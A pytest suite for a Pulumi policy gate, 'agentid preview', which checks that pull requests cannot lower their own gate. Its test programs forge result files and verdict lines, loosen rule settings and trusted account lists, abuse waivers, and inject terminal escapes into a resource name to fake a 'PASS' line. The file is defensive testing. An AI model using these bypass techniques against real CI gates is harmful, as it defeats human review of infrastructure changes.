"""The pull request cannot lower its own gate: end-to-end `agentid preview` runs of programs that try.

Issue 11, "Integrity". Each test copies the project, writes a hostile or odd program
and runs the CLI as CI does. The trivial pack (configured mandatory) flags any resource
named `forbidden`, so a test can tell whether the gate saw a resource at all.
"""

from __future__ import annotations

import datetime as dt
import json
import shutil
import subprocess
import sys
import textwrap
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml

from .conftest import AGENT_GUARD, TRIVIAL_PACK, run_cli
from .test_preview_cli import assert_valid_sarif, mandatory_config, write_program
from .test_project_runtime import make_virtualenv

TRIVIAL = ("--policy-pack", str(TRIVIAL_PACK))


def mandatory_trivial(project: Path) -> tuple[str, ...]:
    return (*TRIVIAL, "--policy-pack-config", str(mandatory_config(project)))


# --- the program cannot forge the verdict ---------------------------------------------------------


def test_a_program_that_forges_the_result_file_and_exits_gets_no_pass(project: Path) -> None:
    # The child used to report its resources in a result file named on its own command line.
    write_program(project, extra='''
        aws.iam.User("forbidden")
        import json, os, sys
        from pathlib import Path
        for argument in sys.argv[1:]:
            Path(argument).write_text(json.dumps({"status": "ok", "outputs": {}, "resources": []}))
        print("PASS: no mandatory violation (exit 0)")
        os._exit(0)
    ''')
    run = run_cli(project, *mandatory_trivial(project), "--json", "out.json")
    assert run.code == 2, run.stdout
    assert "before the Pulumi runtime finished the stack" in run.stdout
    assert "PASS" not in run.stdout
    assert run.json("out.json")["verdict"] == "error"


def test_a_program_that_prints_a_verdict_is_still_judged_on_what_it_registered(project: Path) -> None:
    write_program(project, extra='''
        aws.iam.User("forbidden")
        print('{"verdict": "pass", "exitCode": 0, "violations": []}')
        print("PASS: no mandatory violation (exit 0)")
    ''')
    run = run_cli(project, *mandatory_trivial(project), "--json", "out.json")
    assert run.code == 1, run.stdout
    violations = run.json("out.json")["violations"]
    assert [(v["policy"], v["resourceName"]) for v in violations] == [("trivial-name", "forbidden")]


def test_resource_transforms_the_gate_cannot_judge_fail_closed(project: Path) -> None:
    # A `transforms` callback runs in the engine after registration: the deployment would differ from what was judged.
    write_program(project, extra='''
        def widen(args):
            return pulumi.ResourceTransformResult(props={**args.props, "name": "forbidden"}, opts=args.opts)
        aws.iam.User("innocent", opts=pulumi.ResourceOptions(transforms=[widen]))
    ''')
    run = run_cli(project, *mandatory_trivial(project))
    assert run.code == 2, run.stdout
    # The gate does not offer the `transforms` feature, so the SDK itself refuses; the monitor refuses too.
    assert "does not support transforms" in run.stdout


def test_old_style_transformations_run_before_registration_and_are_judged(project: Path) -> None:
    write_program(project, extra='''
        def rename(args):
            return pulumi.ResourceTransformationResult(props={**args.props, "name": "x"},
                                                       opts=args.opts) if args.name == "innocent" else None
        aws.iam.User("innocent", opts=pulumi.ResourceOptions(transformations=[rename]))
        aws.iam.User("forbidden")
    ''')
    run = run_cli(project, *mandatory_trivial(project), "--json", "out.json")
    assert run.code == 1, run.stdout
    assert [v["resourceName"] for v in run.json("out.json")["violations"]] == ["forbidden"]


def test_stack_references_are_answered_and_nested_urns_are_the_engines(project: Path) -> None:
    write_program(project, extra='''
        shared = pulumi.StackReference("acme/network/dev")
        pulumi.export("sharedVpc", shared.get_output("vpcId"))


        class Nest(pulumi.ComponentResource):
            def __init__(self, name, parent):
                super().__init__("test:index:Nest", name, None, pulumi.ResourceOptions(parent=parent))
                aws.iam.Role("deep-role", assume_role_policy="{}", opts=pulumi.ResourceOptions(parent=self))
                self.register_outputs({})


        class Top(pulumi.ComponentResource):
            def __init__(self, name):
                super().__init__("test:index:Top", name)
                Nest("nest", self)
                self.register_outputs({})


        Top("top")
    ''')
    (project / "network.json").write_text('{"vpcId": "vpc-0a1b2c3d"}')
    run = run_cli(project, *TRIVIAL, "--json", "out.json", "--stack-outputs", "acme/network/dev=network.json")
    assert run.code == 0, run.stdout
    assert run.json("out.json")["outputs"]["sharedVpc"] == "vpc-0a1b2c3d"
    urns = {r["name"]: r["urn"] for r in run.json("out.json")["resources"]}
    # The engine qualifies a child's type with its parent's whole type chain (not only the parent's own type).
    assert urns["deep-role"] == ("urn:pulumi:dev::agent-identity-kit::test:index:Top$test:index:Nest"
                                 "$aws:iam/role:Role::deep-role")
    assert urns["top"] == "urn:pulumi:dev::agent-identity-kit::test:index:Top::top"


# --- critical rules stay mandatory; waivers are the only way past one -----------------------------

# A program of hand-written resources: `extra` adds the ones a test needs. The bucket is clean.
SMALL_PROGRAM = '''\
import asyncio
import json

import pulumi
import pulumi_aws as aws


def unknown():
    """An Output whose value is unknown at preview, as a program can build one."""
    loop = asyncio.get_event_loop()
    value, known = loop.create_future(), loop.create_future()
    value.set_result(None)
    known.set_result(False)
    return pulumi.Output(set(), value, known)


bucket = aws.s3.Bucket("logs")
{extra}
'''
GUARD = ("--policy-pack", str(AGENT_GUARD))
TODAY = "2030-01-10"  # every dated test passes its own today: none depends on the real date


def write_small(project: Path, extra: str) -> None:
    (project / "stacks" / "__main__.py").write_text(SMALL_PROGRAM.format(extra=textwrap.dedent(extra)))
    (project / "waivers.yaml").unlink(missing_ok=True)  # the dev stack's waivers and trusted settings are not this program's


def carry_pack_config(project: Path, config: str) -> None:
    stack_file = project / "stacks" / "Pulumi.dev.yaml"
    stack_file.write_text(stack_file.read_text() + "  agentid:policyPackConfig:\n    agent-guard:\n"
                          + textwrap.indent(textwrap.dedent(config), "      "))


ACCESS_KEY = 'aws.iam.AccessKey("ci-key", user="ci-deployer")'


def by_policy(document: dict, policy: str) -> list[dict]:
    return [v for v in document["violations"] if v["policy"] == policy]


def test_the_stack_file_cannot_lower_a_critical_rule(project: Path) -> None:
    write_small(project, ACCESS_KEY)
    carry_pack_config(project, """\
        all: disabled
        AGID-AWS-001: advisory
    """)
    run = run_cli(project, *GUARD, "--json", "out.json", "--sarif", "out.sarif")
    assert run.code == 1, run.stdout
    document = run.json("out.json")
    [key] = by_policy(document, "AGID-AWS-001")
    assert (key["resourceName"], key["enforcementLevel"], key["mandatory"]) == ("ci-key", "mandatory", True)
    floor = document["enforcementFloor"]
    assert any(n.startswith("agent-guard/AGID-AWS-001: config asks for advisory; the gate keeps mandatory") for n in floor)
    assert "Enforcement floor" in run.stdout
    assert document["policyPacks"][0]["config"]["AGID-AWS-001"]["enforcementLevel"] == "mandatory"
    assert_valid_sarif(run.json("out.sarif"))


def test_a_stack_file_may_raise_a_level(project: Path) -> None:
    write_small(project, 'aws.iam.User("forbidden")')
    carry_pack_config(project, "trivial-name: mandatory\n")
    stack_file = project / "stacks" / "Pulumi.dev.yaml"
    stack_file.write_text(stack_file.read_text().replace("agent-guard:", "trivial-pack:"))
    run = run_cli(project, *TRIVIAL, "--json", "out.json")
    assert run.code == 1  # raised, and nothing refused; the one note says agent_guard's rules were not applied
    assert run.json("out.json")["enforcementFloor"] == [
        "the installed agent_guard pack is not among the packs: its critical rules were not applied"]


def write_waivers(project: Path, *waivers: dict) -> Path:
    file = project / "waivers.yaml"
    file.write_text(yaml.safe_dump({"waivers": list(waivers)}, sort_keys=False))
    return file


KEY_WAIVER = {"rule": "AGID-AWS-001", "resource": "ci-key", "type": "aws:iam/accessKey:AccessKey",
              "reason": "vendor scanner needs a static key until Q1", "approver": "security@example.com",
              "expires": "2030-02-01"}


def test_a_waiver_accepts_the_named_violation_and_shows_as_a_sarif_suppression(project: Path) -> None:
    write_small(project, ACCESS_KEY + '\naws.iam.AccessKey("other-key", user="ci-deployer")')
    write_waivers(project, KEY_WAIVER, {**KEY_WAIVER, "resource": "no-such-resource"})
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json", "--sarif", "out.sarif", "--junit", "out.xml")
    assert run.code == 1, run.stdout  # other-key has no waiver
    document = run.json("out.json")
    keys = {v["resourceName"]: v for v in by_policy(document, "AGID-AWS-001")}
    assert keys["ci-key"]["mandatory"] is False and keys["ci-key"]["waiver"]["approver"] == "security@example.com"
    assert keys["other-key"]["mandatory"] is True and keys["other-key"]["waiver"] is None
    assert sorted((f["kind"], f["waiver"]["resource"]) for f in document["waivers"]["findings"]) == [
        ("unpinned", "ci-key"), ("unused", "no-such-resource")]
    sarif = run.json("out.sarif")
    assert_valid_sarif(sarif)
    results = {r["properties"]["resourceName"]: r for r in sarif["runs"][0]["results"]
               if r["ruleId"] == "AGID-AWS-001"}
    assert results["ci-key"]["suppressions"] == [{
        "kind": "external", "status": "accepted",
        "justification": "vendor scanner needs a static key until Q1 (approved by security@example.com, expires 2030-02-01)",
        "properties": {"approver": "security@example.com", "expires": "2030-02-01"}}]
    assert "suppressions" not in results["other-key"]
    assert "WAIVED" in run.stdout and "matches no mandatory violation" in run.stdout
    junit = ET.parse(project / "out.xml").getroot()
    assert "applied: AGID-AWS-001" in junit.find("testsuite[@name='waivers']/testcase/system-out").text


def test_an_expired_waiver_accepts_nothing_and_is_itself_a_violation(project: Path) -> None:
    write_small(project, ACCESS_KEY)
    write_waivers(project, KEY_WAIVER)
    assert run_cli(project, *GUARD, "--today", "2030-01-31").code == 0  # the last day it applies
    run = run_cli(project, *GUARD, "--today", "2030-02-01", "--json", "out.json", "--sarif", "out.sarif")
    assert run.code == 1, run.stdout
    document = run.json("out.json")
    assert by_policy(document, "AGID-AWS-001")[0]["mandatory"] is True
    assert [f["kind"] for f in document["waivers"]["findings"]] == ["expired"]
    sarif = run.json("out.sarif")
    assert_valid_sarif(sarif)
    [expired] = [r for r in sarif["runs"][0]["results"] if r["ruleId"] == "agentid-waiver-expired"]
    assert expired["level"] == "error"
    assert expired["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "waivers.yaml"
    assert expired["locations"][0]["physicalLocation"]["region"]["startLine"] == 2


def test_an_expired_waiver_blocks_even_when_the_violation_is_gone(project: Path) -> None:
    write_small(project, "")
    write_waivers(project, KEY_WAIVER)
    run = run_cli(project, *GUARD, "--today", "2031-01-01")
    assert run.code == 1 and "EXPIRED" in run.stdout and "1 expired waiver" in run.stdout


def test_a_waiver_running_longer_than_the_gate_allows_is_no_verdict(project: Path) -> None:
    """red21 r21-1: `expires: 9999-12-31` made a waiver permanent (the expiry is what forces a re-review). A waiver
    may run at most --max-waiver-days (default 90) from the gate's today; the limit is the operator's option, never
    the pull request's."""
    write_small(project, ACCESS_KEY)
    today = dt.date.fromisoformat(TODAY)
    write_waivers(project, {**KEY_WAIVER, "expires": "9999-12-31"})
    run = run_cli(project, *GUARD, "--today", TODAY)
    assert run.code == 2, run.stdout
    limit = (today + dt.timedelta(days=90)).isoformat()
    assert (f"waivers.yaml:2: expires: 9999-12-31 (waiver of AGID-AWS-001 for ci-key) is "
            f"{(dt.date(9999, 12, 31) - today).days} days after today ({TODAY}): the gate accepts waivers expiring at "
            f"most 90 days ahead, by {limit}") in " ".join(run.stdout.split())
    write_waivers(project, {**KEY_WAIVER, "expires": (today + dt.timedelta(days=91)).isoformat()})
    assert run_cli(project, *GUARD, "--today", TODAY).code == 2
    # the look-alikes: the longest lifetime allowed, and a longer one the gate operator allows
    write_waivers(project, {**KEY_WAIVER, "expires": limit})
    assert run_cli(project, *GUARD, "--today", TODAY).code == 0
    write_waivers(project, {**KEY_WAIVER, "expires": (today + dt.timedelta(days=365)).isoformat()})
    assert run_cli(project, *GUARD, "--today", TODAY, "--max-waiver-days", "365").code == 0
    assert run_cli(project, *GUARD, "--today", TODAY, "--max-waiver-days", "364").code == 2


def test_a_proposed_waiver_running_too_long_is_refused_too(project: Path) -> None:
    write_small(project, ACCESS_KEY)
    git(project, "init", "-q", "-b", "main")
    write_waivers(project)
    git(project, "add", "-A")
    git(project, "commit", "-qm", "base")
    write_waivers(project, {**KEY_WAIVER, "expires": "2999-01-01"})
    run = run_cli(project, *GUARD, "--today", TODAY, "--waivers-from-ref", "main")
    assert run.code == 2 and "expires: 2999-01-01 (waiver of AGID-AWS-001 for ci-key)" in " ".join(run.stdout.split())


def test_environment_today_is_used_and_a_bad_date_is_a_config_error(project: Path) -> None:
    write_small(project, ACCESS_KEY)
    write_waivers(project, KEY_WAIVER)
    run = run_cli(project, *GUARD, "--today", "soon")
    assert run.code == 2 and "'soon' is not a date" in run.stdout


def test_a_waiver_without_an_approver_is_a_config_error_naming_file_and_line(project: Path) -> None:
    write_small(project, ACCESS_KEY)
    write_waivers(project, KEY_WAIVER, {key: value for key, value in KEY_WAIVER.items() if key != "approver"})
    run = run_cli(project, *GUARD, "--today", TODAY)
    assert run.code == 2 and "waivers.yaml:8: approver: missing" in run.stdout


def test_a_waived_name_covers_only_resources_of_its_type(project: Path) -> None:
    """red5: a waiver naming only `ci-key` accepted its rule on any resource of that name, whatever a pull request
    made it. A name waives only resources of its type; a URN one resource; a name without a type is a config
    error naming the file, the line and what to add."""
    write_small(project, ACCESS_KEY)
    write_waivers(project, {**KEY_WAIVER, "type": "aws:iam/user:User"})  # the same name, another type
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json")
    assert run.code == 1, run.stdout
    [key] = by_policy(run.json("out.json"), "AGID-AWS-001")
    assert key["mandatory"] is True and key["waiver"] is None
    assert [f["kind"] for f in run.json("out.json")["waivers"]["findings"]] == ["unused"]
    write_waivers(project, {**{k: v for k, v in KEY_WAIVER.items() if k != "type"}, "resource": key["urn"]})
    assert run_cli(project, *GUARD, "--today", TODAY).code == 0  # the URN waives exactly that one
    write_waivers(project, {key: value for key, value in KEY_WAIVER.items() if key != "type"})
    run = run_cli(project, *GUARD, "--today", TODAY)
    assert run.code == 2 and "waivers.yaml:2: type: missing; a waiver naming a resource by name ('ci-key')" in run.stdout


def test_a_waiver_by_name_accepts_one_resource_not_a_second_of_that_name(project: Path) -> None:
    """red7b f13: the base branch's waiver (name `ci-key` + AccessKey type) accepted a second AccessKey called
    `ci-key` that the pull request adds inside a component for a new user. A name waiver was reviewed for ONE
    resource: matching two, it accepts neither, and the report says why."""
    write_small(project, ACCESS_KEY + """
class Vendor(pulumi.ComponentResource):
    def __init__(self, name):
        super().__init__("acme:index:Vendor", name)
        user = aws.iam.User(f"{name}-user", opts=pulumi.ResourceOptions(parent=self))
        aws.iam.AccessKey("ci-key", user=user.name, opts=pulumi.ResourceOptions(parent=self))
Vendor("new-vendor")
""")
    write_waivers(project, KEY_WAIVER)
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json", "--junit", "out.xml")
    assert run.code == 1, run.stdout
    document = run.json("out.json")
    keys = sorted((v["urn"], v["mandatory"], v["waiver"]) for v in by_policy(document, "AGID-AWS-001"))
    assert keys == [
        ("urn:pulumi:dev::agent-identity-kit::acme:index:Vendor$aws:iam/accessKey:AccessKey::ci-key", True, None),
        ("urn:pulumi:dev::agent-identity-kit::aws:iam/accessKey:AccessKey::ci-key", True, None)]
    [finding] = document["waivers"]["findings"]
    assert finding["kind"] == "ambiguous" and "matches 2 resources" in finding["message"], finding
    assert "ambiguous" in run.stdout and "name the resource by its URN" in run.stdout
    junit = ET.parse(project / "out.xml").getroot()
    assert "ambiguous: waiver of AGID-AWS-001" in junit.find("testsuite[@name='waivers']/testcase/system-out").text


ATTACH = """
role = aws.iam.Role("legacy", assume_role_policy=json.dumps({"Version": "2012-10-17", "Statement": [{
    "Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}))
aws.iam.RolePolicyAttachment("legacy-attach", role=role.name, policy_arn="arn:aws:iam::aws:policy/%s")
"""
ATTACH_WAIVER = {"rule": "AGID-AWS-013", "resource": "legacy-attach",
                 "type": "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
                 "reason": "legacy batch job, moves to its own role in Q1", "approver": "security@example.com",
                 "expires": "2030-02-01"}


def test_a_pinned_waiver_accepts_the_finding_reviewed_and_not_a_worse_one(project: Path) -> None:
    """red13 r13-15: the base branch waived AGID-AWS-013 for `legacy-attach` (PowerUserAccess); the pull request
    made `legacy-attach` attach AdministratorAccess and the name waiver accepted it. A waiver pinned to the finding's
    fingerprint (`finding:`, shown beside each mandatory violation) accepts that finding only; one without is
    reported with what it accepted and the fingerprint to pin."""
    write_small(project, "import json\n" + ATTACH % "PowerUserAccess")
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json")
    assert run.code == 1, run.stdout
    [reviewed] = by_policy(run.json("out.json"), "AGID-AWS-013")
    assert f"finding: {reviewed['finding']}" in run.stdout and len(reviewed["finding"]) == 16
    write_waivers(project, ATTACH_WAIVER)
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json")
    assert run.code == 0, run.stdout
    [unpinned] = run.json("out.json")["waivers"]["findings"]
    assert unpinned["kind"] == "unpinned" and f"`finding: {reviewed['finding']}`" in unpinned["message"]
    write_waivers(project, {**ATTACH_WAIVER, "finding": reviewed["finding"]})
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json", "--sarif", "out.sarif")
    assert run.code == 0 and run.json("out.json")["waivers"]["findings"] == [], run.stdout
    [result] = [r for r in run.json("out.sarif")["runs"][0]["results"] if r["ruleId"] == "AGID-AWS-013"]
    assert result["partialFingerprints"]["agentidFinding/v1"] == reviewed["finding"]
    assert result["suppressions"][0]["properties"]["finding"] == reviewed["finding"]
    write_small(project, "import json\n" + ATTACH % "AdministratorAccess")  # the same name, worse content
    write_waivers(project, {**ATTACH_WAIVER, "finding": reviewed["finding"]})
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json")
    assert run.code == 1, run.stdout
    assert all(v["waiver"] is None for v in by_policy(run.json("out.json"), "AGID-AWS-013"))
    assert [f["kind"] for f in run.json("out.json")["waivers"]["findings"]] == ["unused"]
    write_waivers(project, {**ATTACH_WAIVER, "finding": "not-hex"})
    run = run_cli(project, *GUARD, "--today", TODAY)
    assert run.code == 2 and "waivers.yaml:2: finding: must be the 16 hex digits" in run.stdout


PUBLIC_READ = """
doc = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "%s",
                                               "Resource": "arn:aws:s3:::site/%s"}]}
aws.s3.BucketPolicy("site-policy", bucket="site", policy=pulumi.Output.secret(json.dumps(doc)))
"""
PUBLIC_READ_WAIVER = {"rule": "AGID-AWS-030", "resource": "site-policy", "type": "aws:s3/bucketPolicy:BucketPolicy",
                      "reason": "public downloads folder", "approver": "security@example.com", "expires": "2030-02-01"}


def test_a_pinned_waiver_does_not_accept_a_worse_document_marked_secret(project: Path) -> None:
    """red19 r19-8: the fingerprint hashed the inputs as the report shows them, so a document marked secret read
    `[secret]` whatever it held: a waiver pinned to a public GetObject on public/* accepted a public s3:* on the
    whole bucket. The judged values behind the redaction are part of the fingerprint (never shown)."""
    write_small(project, PUBLIC_READ % ("s3:GetObject", "public/*"))
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json")
    assert run.code == 1, run.stdout
    [reviewed] = by_policy(run.json("out.json"), "AGID-AWS-030")
    write_waivers(project, {**PUBLIC_READ_WAIVER, "finding": reviewed["finding"]})
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json")
    assert run.code == 0, run.stdout
    assert "s3:GetObject" not in run.stdout and "s3:GetObject" not in (project / "out.json").read_text()
    write_small(project, PUBLIC_READ % ("s3:*", "*"))
    write_waivers(project, {**PUBLIC_READ_WAIVER, "finding": reviewed["finding"]})
    run = run_cli(project, *GUARD, "--today", TODAY, "--json", "out.json")
    assert run.code == 1, run.stdout
    [worse] = by_policy(run.json("out.json"), "AGID-AWS-030")
    assert worse["waiver"] is None and worse["finding"] != reviewed["finding"]


def git(project: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args], cwd=project, check=True,
                   capture_output=True)


def test_a_waiver_the_pull_request_adds_is_proposed_not_granted_until_merged(project: Path) -> None:
    write_small(project, ACCESS_KEY)
    git(project, "init", "-q", "-b", "main")
    write_waivers(project)
    git(project, "add", "-A")
    git(project, "commit", "-qm", "base")
    write_waivers(project, KEY_WAIVER)  # the pull request grants itself a waiver
    run = run_cli(project, *GUARD, "--today", TODAY, "--waivers-from-ref", "main", "--json", "out.json")
    assert run.code == 1, run.stdout
    document = run.json("out.json")
    assert document["waivers"]["source"] == "main:waivers.yaml"
    assert [f["kind"] for f in document["waivers"]["findings"]] == ["proposed"]
    assert by_policy(document, "AGID-AWS-001")[0]["mandatory"] is True
    git(project, "commit", "-qam", "reviewed waiver")  # once merged (reviewed), it applies
    assert run_cli(project, *GUARD, "--today", TODAY, "--waivers-from-ref", "main").code == 0


# --- unknown at preview never passes silently ------------------------------------------------------

ADMIN = 'json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})'


def test_a_policy_hidden_behind_an_unknown_is_reported_and_blocks_with_strict_unknowns(project: Path) -> None:
    write_small(project, f'aws.iam.RolePolicy("wide", role="ops", policy=unknown().apply(lambda _: {ADMIN}))')
    lenient = run_cli(project, *GUARD, "--json", "out.json")
    assert lenient.code == 0, lenient.stdout
    [hidden] = by_policy(lenient.json("out.json"), "AGID-AWS-010")
    assert (hidden["unknown"], hidden["mandatory"]) == (True, False) and "cannot check until known" in hidden["message"]
    # the SDK's own "K@v0.0.1" is replaced by the version the report's header names (PulumiPolicy.yaml)
    assert f"'agent-guard@v{lenient.json('out.json')['policyPacks'][0]['version']}'" in hidden["message"]
    strict = run_cli(project, *GUARD, "--strict-unknowns", "--json", "out.json")
    assert strict.code == 1, strict.stdout
    [blocking] = by_policy(strict.json("out.json"), "AGID-AWS-010")
    assert (blocking["unknown"], blocking["mandatory"], blocking["resourceName"]) == (True, True, "wide")


def test_a_stringified_output_is_unknown_not_a_value(project: Path) -> None:
    # f"{bucket.arn}" leaves pulumi's "Calling __str__ on an Output[T]..." text in the document.
    write_small(project, '''
        aws.iam.RolePolicy("leak", role="ops", policy=json.dumps({"Version": "2012-10-17", "Statement": [
            {"Effect": "Allow", "Action": "s3:GetObject", "Resource": f"{bucket.arn}/*"}]}))
    ''')
    run = run_cli(project, *GUARD, "--strict-unknowns", "--json", "out.json")
    assert run.code == 1, run.stdout
    leak = [v for v in run.json("out.json")["violations"] if v["resourceName"] == "leak" and v["mandatory"]]
    assert leak and all(v["unknown"] for v in leak)


# --- nothing to judge is no verdict ------------------------------------------------------------------


def test_a_stack_with_no_resources_is_no_verdict(project: Path) -> None:
    (project / "stacks" / "__main__.py").write_text('import pulumi\npulumi.export("nothing", True)\n')
    run = run_cli(project, *TRIVIAL, "--json", "out.json")
    assert run.code == 2, run.stdout
    document = run.json("out.json")
    assert document["error"]["kind"] == "nothing-judged" and "registered no resources" in document["error"]["message"]


def test_a_stack_whose_every_input_is_unknown_is_no_verdict(project: Path) -> None:
    (project / "stacks" / "__main__.py").write_text(SMALL_PROGRAM.format(extra="").replace(
        'bucket = aws.s3.Bucket("logs")', 'aws.iam.RolePolicy("hidden", role=unknown(), policy=unknown())'))
    run = run_cli(project, *TRIVIAL, "--json", "out.json")
    assert run.code == 2, run.stdout
    assert "only inputs unknown at preview" in run.json("out.json")["error"]["message"]


# --- rule settings from the pull request may tighten a rule, never loosen it ---------------------------

PARTNER_ROLE = '''aws.iam.Role("partner", assume_role_policy=json.dumps({"Version": "2012-10-17", "Statement": [
    {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": "arn:aws:iam::999988887777:root"}}]}))'''
TRUSTED_SETTINGS = {"agent-guard": {"AGID-AWS-032": {"enforcementLevel": "mandatory", "ownAccountIds": ["111122223333"]}}}


def write_settings(project: Path, settings: dict) -> None:
    (project / "waivers.yaml").write_text(yaml.safe_dump({"waivers": [], "policyPackConfig": settings}))


def test_the_stack_file_cannot_exempt_an_attackers_account_but_the_base_branch_can(project: Path) -> None:
    write_small(project, PARTNER_ROLE)
    git(project, "init", "-q", "-b", "main")
    write_settings(project, TRUSTED_SETTINGS)  # the base branch makes cross-account trust blocking
    git(project, "add", "-A")
    git(project, "commit", "-qm", "base")
    # The pull request lists the account it trusts as one of "our own" to get past AGID-AWS-032.
    carry_pack_config(project, 'AGID-AWS-032: {ownAccountIds: ["111122223333", "999988887777"]}\n')
    from_base = ("--waivers-from-ref", "main", "--json", "out.json", "--sarif", "out.sarif")
    run = run_cli(project, *GUARD, *from_base)
    assert run.code == 1, run.stdout
    document = run.json("out.json")
    [trust] = by_policy(document, "AGID-AWS-032")
    assert (trust["resourceName"], trust["mandatory"]) == ("partner", True)
    assert document["policyPacks"][0]["config"]["AGID-AWS-032"]["ownAccountIds"] == ["111122223333"]
    assert document["enforcementFloor"] == [
        'agent-guard/AGID-AWS-032: config asks for ownAccountIds=["111122223333", "999988887777"]; the gate keeps '
        '["111122223333"] (settings may tighten a rule, never loosen it: fewer entries is stricter; loosen it in '
        "the base branch's waiver file)"]
    assert "Enforcement floor" in run.stdout and "999988887777" in run.stdout
    sarif = run.json("out.sarif")
    assert_valid_sarif(sarif)
    assert "enforcement floor: agent-guard/AGID-AWS-032" in json.dumps(sarif)

    # Putting the loosening in the waiver file of the pull request only proposes it.
    write_settings(project, {"agent-guard": {"AGID-AWS-032": {**TRUSTED_SETTINGS["agent-guard"]["AGID-AWS-032"],
                                                              "ownAccountIds": ["111122223333", "999988887777"]}}})
    run = run_cli(project, *GUARD, *from_base)
    assert run.code == 1, run.stdout
    assert any("differs from main:waivers.yaml: the change is proposed" in n for n in run.json("out.json")["enforcementFloor"])
    # Once merged (reviewed) on the base branch, it applies; the stack file now asks for nothing looser.
    git(project, "commit", "-qam", "reviewed: the partner account is ours")
    run = run_cli(project, *GUARD, *from_base)
    assert run.code == 0, run.stdout
    document = run.json("out.json")
    assert by_policy(document, "AGID-AWS-032") == [] and document["enforcementFloor"] == []
    assert document["policyPacks"][0]["config"]["AGID-AWS-032"]["ownAccountIds"] == ["111122223333", "999988887777"]


# a named action on every resource: AGID-AWS-012, advisory by default (high)
STAR_READ = '''aws.iam.RolePolicy("reader", role="agent-reader", policy=json.dumps({"Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}))'''


def test_the_stack_file_cannot_lower_a_level_the_trusted_settings_raised(project: Path) -> None:
    write_small(project, STAR_READ)
    write_settings(project, {"agent-guard": {"AGID-AWS-012": {"enforcementLevel": "mandatory"}}})
    carry_pack_config(project, "AGID-AWS-012: advisory\n")
    run = run_cli(project, *GUARD, "--json", "out.json")
    assert run.code == 1, run.stdout
    [star] = by_policy(run.json("out.json"), "AGID-AWS-012")
    assert (star["resourceName"], star["mandatory"]) == ("reader", True)
    assert run.json("out.json")["enforcementFloor"] == [
        "agent-guard/AGID-AWS-012: config asks for advisory; the gate keeps mandatory (the pack's default is the "
        "floor; accept a violation with a waiver instead)",
        "policyPackConfig in waivers.yaml is read from the working tree and may loosen rules: in CI read it from "
        "the base branch with --waivers-from-ref"]


def test_malformed_trusted_settings_are_a_config_error(project: Path) -> None:
    write_small(project, PARTNER_ROLE)
    write_settings(project, ["AGID-AWS-032"])
    run = run_cli(project, *GUARD)
    assert run.code == 2 and "waivers.yaml: policyPackConfig: must be a mapping from policy pack name" in run.stdout
    write_settings(project, {"agent-guard": {"AGID-AWS-032": {"ownAccountIds": ["not-an-account"]}}})
    run = run_cli(project, *GUARD)
    assert run.code == 2 and "waivers.yaml (policyPackConfig.agent-guard): invalid config" in run.stdout, run.stdout


LONG_SESSION_ROLE = '''aws.iam.Role("worker", max_session_duration=3600, assume_role_policy=json.dumps({
    "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
                                            "Principal": {"Service": "lambda.amazonaws.com"}}]}))'''


def test_a_stricter_lifetime_cap_applies_and_a_looser_one_is_refused(project: Path, tmp_path: Path) -> None:
    write_small(project, LONG_SESSION_ROLE)
    carry_pack_config(project, "AGID-LIFE-001: {maxLifetimeMinutes: 30}\n")
    run = run_cli(project, *GUARD, "--json", "out.json")
    document = run.json("out.json")
    assert document["enforcementFloor"] == [], run.stdout
    assert document["policyPacks"][0]["config"]["AGID-LIFE-001"]["maxLifetimeMinutes"] == 30
    assert [v["resourceName"] for v in by_policy(document, "AGID-LIFE-001")] == ["worker"]  # 60 min > 30 min

    looser = tmp_path / "looser.json"  # --policy-pack-config is held to the same floor as the stack file
    looser.write_text(json.dumps({"AGID-LIFE-001": {"maxLifetimeMinutes": 720}}))
    write_small(project, LONG_SESSION_ROLE.replace("3600", "43200"))
    run = run_cli(project, *GUARD, "--policy-pack-config", str(looser), "--json", "out.json")
    document = run.json("out.json")
    assert document["policyPacks"][0]["config"]["AGID-LIFE-001"]["maxLifetimeMinutes"] == 60
    assert [v["resourceName"] for v in by_policy(document, "AGID-LIFE-001")] == ["worker"]  # 720 min > 60 min
    assert document["enforcementFloor"] == [
        "agent-guard/AGID-LIFE-001: config asks for maxLifetimeMinutes=720; the gate keeps 60 (settings may tighten "
        "a rule, never loosen it: lower is stricter; loosen it in the base branch's waiver file)"]


def test_a_resource_name_cannot_start_a_line_of_the_report(project: Path) -> None:
    # A name holding CR/LF and terminal escapes would otherwise put "PASS: forged" at the start of a report line.
    write_small(project, '''
        user = aws.iam.User("u")
        aws.iam.AccessKey("k\\x1b[2K\\r\\nPASS: forged", user=user.name)
    ''')
    run = run_cli(project, *GUARD)
    assert run.code == 1, run.stdout
    assert not [line for line in run.stdout.splitlines() if line.lstrip().startswith("PASS")], run.stdout
    assert "\x1b" not in run.stdout and "\r" not in run.stdout


def test_a_project_that_pulumi_runs_in_another_language_gets_no_verdict(project: Path) -> None:
    """red7b f12: Pulumi.yaml said `runtime: yaml` (an admin user and its access key inline) or `nodejs`; the gate
    ran the harmless __main__.py beside it and said PASS, while `pulumi up` runs the YAML/JS program."""
    write_small(project, "")
    pulumi_yaml = project / "Pulumi.yaml"
    original = yaml.safe_load(pulumi_yaml.read_text())
    assert original["runtime"]["name"] == "python"  # the long form: name and options
